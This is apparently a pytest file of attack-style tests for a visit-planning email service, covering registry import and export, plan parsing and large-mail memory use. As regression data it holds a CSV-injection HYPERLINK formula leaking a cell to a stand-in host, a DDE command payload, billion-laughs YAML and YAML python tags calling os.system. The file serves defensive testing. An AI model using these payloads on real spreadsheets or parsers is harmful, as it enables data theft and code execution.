"""Attacks on the customer registry, the visit plans and large-mail handling, as users and attackers.

Each test states what a user needs; the ones marked xfail(strict) reproduce a fault found by
attacking the features of issue 10 and issue 8.6 (see the lead's report for where it lives).
The unmarked tests are attacks that held up and stay as regressions.
"""

from __future__ import annotations

import csv
import email
import io
import os
import signal
import time
import tracemalloc
import zipfile
from datetime import datetime
from email import policy
from email.message import EmailMessage
from email.utils import make_msgid
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from service.cli import cli
from service.inbound.mime import decode_message
from service.intake import Intake, PollResult
from service.reading.plans import read_plan_file
from service.reading.tables import read_table

from .conftest import FIXTURES, append_raw, folder_messages, wait_for
from .test_large_mail import crlf, photo, report

SERVICE = "visits@visitflow.test"
HEAD = "wang.fang@visitflow.test"  # head of east
REP = "li.lei@visitflow.test"
REP2 = "han.meimei@visitflow.test"
SALES = "zhao.qiang@visitflow.test"
MB = 1024 * 1024
REGISTRY_HEADER = ["客户编号", "客户名称", "别名", "类型", "地区", "等级", "指定巡访人", "联系人", "电话", "地址"]
PLAN_CSV = "营业单位：east\n期间：2026年12月\n日期,客户名称,巡访人,目的\n2026-12-03,华联超市（浦东店）,李雷,推广新品\n"
XLSX_TYPE = ("application", "vnd.openxmlformats-officedocument.spreadsheetml.sheet")


# --------------------------------------------------------------------------- helpers

def customers_cli(config_file: Path, *args: str):
    return CliRunner().invoke(cli, ["--config", str(config_file), "customers", *args])


REGISTRY_FIELDS = ("id", "name", "aliases", "type", "region", "tier", "visitor", "contact", "phone", "address")


def registry_row(cid: str, name: str, **values: str) -> list[str]:
    """Return a registry row (a retailer of 上海, tier A, unless ``values`` say otherwise) by data name."""
    row = dict(zip(REGISTRY_FIELDS, [cid, name, "", "零售商", "上海", "A", "", "", "", ""]))
    row.update(values)
    return list(row.values())


def write_csv(path: Path, rows: list[list[str]]) -> Path:
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    path.write_bytes(out.getvalue().encode("utf-8"))
    return path


def workbook(rows: list[list[object]], setup=None) -> bytes:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    if setup:
        setup(book, book.active)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def plan_mail(data: bytes, filename: str, *, sender: str = HEAD, subject: str = "巡访计划",
              headers: dict[str, str] | None = None, body: str = "请查收本月巡访计划。") -> bytes:
    msg = EmailMessage()
    msg["From"] = sender
    msg["To"] = SERVICE
    msg["Subject"] = subject
    msg["Message-ID"] = make_msgid(domain="client.test")
    msg["Date"] = "Fri, 27 Nov 2026 10:00:00 +0800"
    for name, value in (headers or {}).items():
        msg[name] = value
    msg.set_content(body)
    maintype, subtype = XLSX_TYPE if filename.endswith(".xlsx") else ("application", "octet-stream")
    msg.add_attachment(data, maintype=maintype, subtype=subtype, filename=filename)
    return msg.as_bytes(policy=policy.SMTP)


def process(ctx, raw: bytes, uid: int) -> str:
    """Record and process one mail as the intake does (no IMAP); return the state it is left in."""
    intake = Intake(ctx)
    recorded, msg = intake.record("INBOX", 1, uid, raw)
    return intake.process(recorded.id, PollResult(), msg=msg)


def outbox(ctx, template: str | None = None) -> list[email.message.EmailMessage]:
    rows = ctx.db.execute("SELECT template, raw FROM outbox ORDER BY id").fetchall()
    return [email.message_from_bytes(raw, policy=policy.default) for t, raw in rows if template in (None, t)]


# =========================================================================== the registry

@pytest.mark.parametrize("field, value", [
    ("name", '=HYPERLINK("http://evil.test/?d="&B3,"点击查看")'),
    ("contact", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("phone", "+86 138 0013 8000"),
    ("aliases", "-2+3"),
], ids=["hyperlink formula in a name", "DDE in a contact", "phone with a country code", "alias with a minus"])
def test_a_csv_export_never_hands_a_spreadsheet_a_formula_and_still_reads_back(config_file, tmp_path, field, value):
    from service.reading.customers import Customer
    from service.store.customers import import_customers
    from service.store.db import open_db

    fields = {"name": "华联超市", "contact": "", "phone": "", "aliases": ()}
    fields[field] = (value,) if field == "aliases" else value
    db = open_db(config_file.parent / "visitflow.db")
    import_customers(db, [Customer(id="C1", type="retailer", region="shanghai", unit="east", tier="A",
                                   designated_visitor=None, address="", **fields)])
    db.close()
    out = tmp_path / "导出.csv"
    assert customers_cli(config_file, "export", str(out)).exit_code == 0
    cells = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))[1]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    again = customers_cli(config_file, "import", str(out))
    assert again.exit_code == 0 and "0 added, 0 changed, 1 unchanged" in again.output, again.output


@pytest.mark.parametrize("merged", [["E2:E4"], ["D2:D4", "F2:F4"], ["E2:E4", "G2:G4"]],
                         ids=["region", "type and tier", "region and designated visitor"])
def test_a_registry_with_merged_cells_reads_each_row_with_the_value_shown(config_file, tmp_path, merged):
    rows = [REGISTRY_HEADER,
            registry_row("C1", "华联超市（浦东店）", visitor="李雷"),
            registry_row("C2", "联华便利（徐汇店）", visitor="李雷"),
            registry_row("C3", "家乐福（古北店）", visitor="李雷")]
    for cells in merged:  # what Excel keeps of a merge: the top-left value, the rest empty
        column = ord(cells[0]) - ord("A")
        for row in rows[2:]:
            row[column] = None
    path = tmp_path / "客户名录.xlsx"
    path.write_bytes(workbook(rows, lambda book, sheet: [sheet.merge_cells(m) for m in merged]))
    result = customers_cli(config_file, "import", str(path))
    assert result.exit_code == 0, result.output
    listed = customers_cli(config_file, "list").output
    assert all(f"{cid}\t" in listed for cid in ("C1", "C2", "C3")) and listed.count("\tA\tretailer\t上海\t李雷") == 3


@pytest.mark.parametrize("fmt, shown", [("00000", "00123"), ("000000", "000123"), ("0000000000", "0000000123")])
def test_an_id_excel_shows_with_leading_zeros_keeps_them(fmt, shown):
    def setup(book, sheet):
        sheet["A2"].number_format = fmt

    rows = read_table(workbook([REGISTRY_HEADER, [123, "华联超市", "", "零售商", "上海", "A"]], setup), "名录.xlsx")
    assert rows[1].cells[0] == shown


@pytest.mark.parametrize("typed", ["Ａ００１", "Ａ001", "A００１"], ids=["full width", "full-width letter", "full-width digits"])
def test_an_id_typed_in_full_width_is_the_same_customer(config_file, tmp_path, typed):
    first = write_csv(tmp_path / "a.csv", [REGISTRY_HEADER, registry_row("A001", "华联超市")])
    assert customers_cli(config_file, "import", str(first)).exit_code == 0
    again = write_csv(tmp_path / "b.csv", [REGISTRY_HEADER, registry_row(typed, "华联超市", tier="B")])
    result = customers_cli(config_file, "import", str(again))
    assert result.exit_code == 0 and "0 added, 1 changed" in result.output, result.output
    both = write_csv(tmp_path / "c.csv", [REGISTRY_HEADER, registry_row("A001", "甲超市"), registry_row(typed, "乙超市")])
    result = customers_cli(config_file, "import", "--dry-run", str(both))
    assert result.exit_code == 2 and "与第 2 行重复" in result.output, result.output


@pytest.mark.parametrize("written", ["李雷 <li.lei@visitflow.test>", '"李雷" <LI.LEI@visitflow.test>',
                                     "李雷（li.lei@visitflow.test）"])
def test_a_designated_visitor_written_as_name_and_address_is_that_person(config_file, tmp_path, written):
    path = write_csv(tmp_path / "名录.csv", [REGISTRY_HEADER, registry_row("C1", "华联超市", visitor=written)])
    result = customers_cli(config_file, "import", str(path))
    assert result.exit_code == 0, result.output
    assert "\t李雷\t" in customers_cli(config_file, "list").output


def _hidden_first(state: str, rows: list[list[str]]):
    def setup(book, sheet):
        sheet.title, sheet.sheet_state = "下拉选项", state
        visible = book.create_sheet("名录")
        for row in rows:
            visible.append(row)
        book.active = 1
    return setup


@pytest.mark.parametrize("state", ["hidden", "veryHidden"])
@pytest.mark.parametrize("kind", ["registry", "plan"])
def test_a_hidden_first_sheet_of_drop_down_lists_is_passed_over(config_file, cfg, tmp_path, state, kind):
    if kind == "registry":
        rows = [REGISTRY_HEADER, registry_row("C1", "华联超市")]
        path = tmp_path / "名录.xlsx"
        path.write_bytes(workbook([["零售商"], ["经销商"]], _hidden_first(state, rows)))
        result = customers_cli(config_file, "import", str(path))
        assert result.exit_code == 0, result.output
    else:
        rows = [["营业单位", "east"], ["期间", "2026-12"], ["日期", "客户名称", "巡访人"], ["2026-12-03", "华联超市", "李雷"]]
        plan = read_plan_file(workbook([["李雷"], ["韩梅梅"]], _hidden_first(state, rows)), "plan.xlsx", cfg, sender=HEAD)
        assert plan.problems == [] and len(plan.visits) == 1


# =========================================================================== plans: reading

@pytest.mark.parametrize("merged", [["A4:A6"], ["C4:C6"], ["A4:A6", "C4:C6"]], ids=["date", "visitor", "both"])
def test_a_plan_with_merged_date_and_visitor_cells_reads_every_visit(cfg, merged):
    rows = [["营业单位", "east"], ["期间", "2026-12"], ["日期", "客户名称", "巡访人", "目的"],
            ["2026-12-03", "华联超市（浦东店）", "李雷", "推广"], ["2026-12-03", "联华便利（徐汇店）", "李雷", "回访"],
            ["2026-12-03", "家乐福（古北店）", "李雷", ""]]
    for cells in merged:
        for row in rows[4:]:
            row[ord(cells[0]) - ord("A")] = None
    plan = read_plan_file(workbook(rows, lambda b, s: [s.merge_cells(m) for m in merged]), "plan.xlsx", cfg, sender=HEAD)
    assert plan.problems == []
    assert [(v.as_json()["date"], v.visitor) for v in plan.visits] == [("2026-12-03", REP)] * 3


@pytest.mark.parametrize("cell", [datetime(2026, 12, 3, 9, 30), "2026/12/3 9:30", "2026年12月3日（周四）",
                                  "12月3日 星期四", "2026-12-03 周四"])
def test_a_plan_date_with_a_time_or_its_weekday_reads_as_that_day(cfg, cell):
    rows = [["营业单位", "east"], ["期间", "2026-12"], ["日期", "客户名称", "巡访人"], [cell, "华联超市", "李雷"]]
    plan = read_plan_file(workbook(rows), "plan.xlsx", cfg, sender=HEAD)
    assert [p.text("en") for p in plan.problems] == []
    assert [(v.span.start.isoformat(), v.span.end.isoformat()) for v in plan.visits] == [("2026-12-03", "2026-12-03")]


DEEP = 3000
DEEP_YAML = {
    "flow sequences under visits": "period: 2026-12\nvisits: " + "[" * DEEP + "]" * DEEP + "\n",
    "flow mappings under a visit": "period: 2026-12\nvisits:\n  - date: " + "{a: " * DEEP + "1" + "}" * DEEP + "\n",
    "block sequences under period": "period:\n" + "".join(" " * i + "-\n" for i in range(DEEP)),
}


@pytest.mark.parametrize("text", DEEP_YAML.values(), ids=DEEP_YAML.keys())
def test_a_deeply_nested_yaml_plan_is_one_problem_and_its_sender_is_answered(ctx, text):
    plan = read_plan_file(text.encode(), "plan.yaml", ctx.cfg, sender=HEAD)
    assert plan.problems and plan.visits == []
    assert process(ctx, plan_mail(text.encode(), "plan.yaml"), 1) == "rejected"
    assert len(outbox(ctx, "plan_rejected")) == 1


@pytest.mark.parametrize("column", ["customer", "purpose", "key_products"])
def test_a_plan_cell_far_longer_than_any_name_is_refused_naming_its_row(cfg, column):
    huge = "华联超市" * 8000  # 32,000 characters: Excel's limit for a cell
    cells = {"customer": "华联超市", "purpose": "推广", "key_products": "小包装酱油", column: huge}
    rows = [["营业单位", "east"], ["期间", "2026-12"], ["重点推销商品", cells["key_products"]],
            ["日期", "客户名称", "巡访人", "目的"], ["2026-12-03", cells["customer"], "李雷", cells["purpose"]]]
    plan = read_plan_file(workbook(rows), "plan.xlsx", cfg, sender=HEAD)
    assert plan.problems, "a 32,000-character cell was taken as a plan value"
    assert (3 if column == "key_products" else 5) in [p.row for p in plan.problems]


def _rows_workbook(count: int) -> bytes:
    """Return a small .xlsx holding `count` visit rows (a zip of a few hundred KB at most)."""
    book = io.BytesIO()
    openpyxl.Workbook().save(book)
    source = zipfile.ZipFile(io.BytesIO(book.getvalue()))
    row = (b'<row><c t="inlineStr"><is><t>2026-12-03</t></is></c><c t="inlineStr"><is><t>A</t></is></c>'
           b'<c t="inlineStr"><is><t>li.lei@visitflow.test</t></is></c></row>')
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                archive.writestr(info.filename, source.read(info.filename))
        with archive.open("xl/worksheets/sheet1.xml", "w") as sheet:
            sheet.write('<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
                        '<row><c t="inlineStr"><is><t>期间: 2026-12</t></is></c></row><row><c t="inlineStr"><is>'
                        '<t>date</t></is></c><c t="inlineStr"><is><t>customer</t></is></c><c t="inlineStr"><is>'
                        '<t>visitor</t></is></c></row>'.encode())
            for _ in range(count // 1000):
                sheet.write(row * 1000)
            sheet.write(b"</sheetData></worksheet>")
    return out.getvalue()


def test_a_small_workbook_of_far_more_rows_than_a_plan_is_refused_without_reading_them_all(cfg):
    import tracemalloc

    from service.reading.tables import read_table

    data = _rows_workbook(150_000)
    assert len(data) < 200_000  # an ordinary attachment
    tracemalloc.start()
    try:
        plan = read_plan_file(data, "plan.xlsx", cfg, sender=HEAD)
        bounded = tracemalloc.get_traced_memory()[1]
        tracemalloc.reset_peak()
        rows = read_table(data, "plan.xlsx")  # what the plan reader must not do: every row
        whole = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert "too_many_visits" in [p.code for p in plan.problems] and len(rows) > 150_000
    assert bounded * 3 < whole, f"the refused plan allocated {bounded >> 20} MB, all its rows {whole >> 20} MB"


# =========================================================================== plans: mail

def _rejected_then_corrected(ctx) -> email.message.EmailMessage:
    assert process(ctx, plan_mail(PLAN_CSV.replace("2026-12-03", "2026-13-03").encode(), "plan.csv"), 1) == "rejected"
    (rejection,) = outbox(ctx, "plan_rejected")
    return rejection


def _reply_headers(answered, *, in_reply_to: bool = True) -> dict[str, str]:
    headers = {"References": answered["Message-ID"]}
    if in_reply_to:
        headers["In-Reply-To"] = answered["Message-ID"]
    return headers


@pytest.mark.parametrize("client", ["outlook reply to the rejection", "gmail reply with References only",
                                    "reply to the receipt with a new version"])
def test_a_plan_sent_by_replying_to_the_services_answer_is_read_as_a_plan(ctx, client):
    if client == "reply to the receipt with a new version":
        assert process(ctx, plan_mail(PLAN_CSV.encode(), "plan.csv"), 1) == "processed"
        (answered,) = outbox(ctx, "plan_receipt")
        subject, headers = f"RE: {answered['Subject']}", _reply_headers(answered)
    else:
        answered = _rejected_then_corrected(ctx)
        subject = f"回复：{answered['Subject']}" if client.startswith("outlook") else f"Re: {answered['Subject']}"
        headers = _reply_headers(answered, in_reply_to=client.startswith("outlook"))
    corrected = PLAN_CSV + "2026-12-10,联华便利（徐汇店）,韩梅梅,回访\n"
    raw = plan_mail(corrected.encode(), "巡访计划（修改版）.csv", subject=subject, headers=headers,
                    body="已按要求修改，请查收。\n\n> 原邮件 …")
    assert process(ctx, raw, 2) == "processed"
    assert outbox(ctx, "no_decision_needed") == []
    assert len(outbox(ctx, "plan_receipt")) == (2 if client.startswith("reply to the receipt") else 1)
    visits = ctx.db.execute("SELECT v.visitor FROM plan_visits v JOIN plans p ON p.id = v.plan WHERE p.current = 1")
    assert sorted(r[0] for r in visits) == [REP2, REP]


def _daily_with_attachment(kind: str) -> bytes:
    if kind == "the Word form":
        raw = (FIXTURES / "daily" / "word_form_attached.eml").read_bytes()
        return raw.replace(b"Subject: =?utf-8?b?5beh6K6/5pel5oql77yI6KeB6ZmE5Lu277yJ?=",
                           "Subject: 11月25日巡访计划执行情况".encode(), 1)
    msg = EmailMessage()
    msg["From"], msg["To"] = REP, SERVICE
    msg["Subject"] = "12月3日巡访计划执行情况" if kind == "a photo" else "Visit plan follow-up: 华联超市"
    msg["Message-ID"] = make_msgid(domain="client.test")
    msg["Date"] = "Thu, 03 Dec 2026 18:00:00 +0800"
    msg.set_content("客户名称：华联超市（浦东店）\n巡访时间：2026-12-03 10:00\n客户意见：希望增加小包装规格\n")
    if kind == "a photo":
        msg.add_attachment(photo(20_000), maintype="image", subtype="jpeg", filename="客户卡.jpg")
    else:
        msg.add_attachment(b"%PDF-1.7\n" + photo(20_000), maintype="application", subtype="pdf", filename="名片.pdf")
    return msg.as_bytes(policy=policy.SMTP)


@pytest.mark.parametrize("kind", ["a photo", "a PDF", "the Word form"])
def test_a_reps_daily_report_whose_subject_mentions_the_plan_is_read_as_a_report(ctx, kind):
    assert process(ctx, _daily_with_attachment(kind), 1) == "processed"
    assert ctx.db.execute("SELECT kind FROM messages").fetchone()[0] == "daily_report"
    assert outbox(ctx, "plan_rejected") == [] and len(outbox(ctx, "daily_receipt")) == 1


# =========================================================================== large mail

def _forwarded(*photos: bytes) -> bytes:
    inner = report(*((f"客户卡{i}.jpg", "image/jpeg", data) for i, data in enumerate(photos)))
    outer = report()
    outer.replace_header("Subject", "转发：巡访日报 照片")
    outer.add_attachment(email.message_from_bytes(crlf(inner), policy=policy.default))
    return crlf(outer)


def _single_line(data: bytes) -> bytes:
    raw = crlf(report(("客户卡.jpg", "image/jpeg", data)))
    start = raw.index(b"\r\n\r\n", raw.index(b"filename")) + 4
    end = raw.index(b"\r\n\r\n--", start)
    return raw[:start] + raw[start:end].replace(b"\r\n", b"") + raw[end:]


_FORWARDED = pytest.mark.xfail(strict=True, reason="a forwarded message/rfc822 is re-serialised, so its large body "
                                                   "falls back to the plain parse: 239-305 MB for a 27 MB mail; "
                                                   "inbound/mime.py _LargeBodies")
LARGE_SHAPES = [
    pytest.param(lambda: _forwarded(os.urandom(20 * MB)), id="forwarded as attachment with a photo",
                 marks=_FORWARDED),
    pytest.param(lambda: _forwarded(os.urandom(10 * MB), os.urandom(10 * MB)),
                 id="forwarded as attachment with two photos", marks=_FORWARDED),
    pytest.param(lambda: _single_line(os.urandom(20 * MB)), id="base64 body on one line"),
]


@pytest.mark.parametrize("make", LARGE_SHAPES)
def test_a_large_mail_of_another_shape_costs_about_its_size_twice(make):
    raw = make()
    tracemalloc.start()
    try:
        msg = decode_message(raw)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert msg.attachments and msg.problems == []
    assert peak < 2 * len(raw), f"decoding allocated {peak / MB:.0f} MB for a {len(raw) / MB:.0f} MB mail"


# =========================================================================== held up (regressions)

@pytest.mark.parametrize("text", [
    ("a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
     "c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\nperiod: 2026-12\nkey_products: *c\nvisits: *c\n"),
    ("period: !!python/object/apply:os.system ['echo owned']\nvisits:\n"
     "  - {date: 2026-12-03, customer: !!python/name:os.system X, visitor: 李雷}\n"),
], ids=["billion laughs", "python tags"])
def test_a_hostile_yaml_plan_is_read_as_text_and_refused_without_expanding(cfg, text):
    plan = read_plan_file(text.encode(), "plan.yaml", cfg, sender=HEAD)
    assert plan.problems and all(v.customer in ("", "X") for v in plan.visits)


@pytest.mark.mail
def test_a_daemon_killed_while_it_stores_a_plan_sends_one_receipt_and_one_calendar_each(mail_sandbox, daemon, cfg):
    visitors = ["李雷", "韩梅梅", "赵强", "王芳"]
    rows = [["营业单位", "east"], ["期间", "2026-12"], ["日期", "客户名称", "巡访人", "目的"]] + [
        [f"2026-12-{i % 31 + 1:02d}", f"客户{i}", visitors[i % 4], "巡访"] for i in range(4800)]
    append_raw(mail_sandbox, SERVICE, [plan_mail(workbook(rows), "plan.xlsx")])
    first = daemon()
    database = str(cfg.storage.database)

    def count(sql: str) -> int:
        import sqlite3
        try:
            with sqlite3.connect(database, timeout=10) as conn:
                return conn.execute(sql).fetchone()[0]
        except sqlite3.OperationalError:
            return 0

    wait_for(lambda: count("SELECT count(*) FROM messages"), timeout=60, interval=0.01, what="the plan recorded")
    time.sleep(0.5)  # processing 4,800 visits takes ~2.5 s: the kill lands in the middle of it
    first.stop(signal.SIGKILL)
    daemon()
    wait_for(lambda: count("SELECT count(*) FROM messages WHERE state = 'processed'"), timeout=60, what="the plan")
    for user, expected in ((HEAD, 2), (REP, 1), (REP2, 1), (SALES, 1)):
        wait_for(lambda u=user, n=expected: len(folder_messages(mail_sandbox, u)) >= n, timeout=60,
                 what=f"mail for {user}")
    time.sleep(1)
    assert count("SELECT count(*) FROM plans") == 1
    assert [len(folder_messages(mail_sandbox, u)) for u in (HEAD, REP, REP2, SALES)] == [2, 1, 1, 1]
    assert len(folder_messages(mail_sandbox, SERVICE, "Processed")) == 1
